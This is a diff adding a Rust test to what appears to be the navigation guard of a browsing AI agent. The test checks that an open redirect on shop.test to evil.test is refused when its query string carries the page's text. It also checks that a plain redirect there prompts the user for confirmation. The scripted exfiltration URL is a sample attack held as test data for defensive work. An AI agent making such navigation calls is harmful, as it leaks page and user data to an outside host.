@@ -140,3 +140,15 @@ fn typing_an_address_of_another_site_is_a_departure() {
     assert_eq!(task.steps[0].status, StepStatus::Denied);
     assert!(fake.tool_calls.borrow().iter().all(|c| !matches!(c, ToolCall::DomType { .. })), "nothing typed");
 }
+
+#[test]
+fn a_home_redirect_to_another_site_is_judged_as_going_there() {
+    let via = "http://shop.test/out?to=http%3A%2F%2Fevil.test%2Fc%3Fd%3DThe%2520Pro%2520plan%2520costs%2520%252429%2520per%2520month";
+    let fake = Fake::new(site(), vec![call("read_page", json!({})), call("nav_go", json!({"url": via})), call("done", json!({"answer": "ok"}))]);
+    let task = run(&fake, "what does the Pro plan cost?");
+    assert_eq!(task.steps[1].status, StepStatus::Denied, "refused: it carries the page's text to evil.test");
+    let plain = "http://shop.test/out?to=http%3A%2F%2Fevil.test%2F";
+    let fake = Fake::new(site(), vec![call("nav_go", json!({"url": plain})), call("done", json!({"answer": "ok"}))]).answering(vec![UserReply::Confirm { allow: false }]);
+    run(&fake, "look around the site");
+    assert!(matches!(&fake.prompts.borrow()[0], UserPrompt::Confirm { site, .. } if site == "http://evil.test"), "{:?}", fake.prompts.borrow());
+}
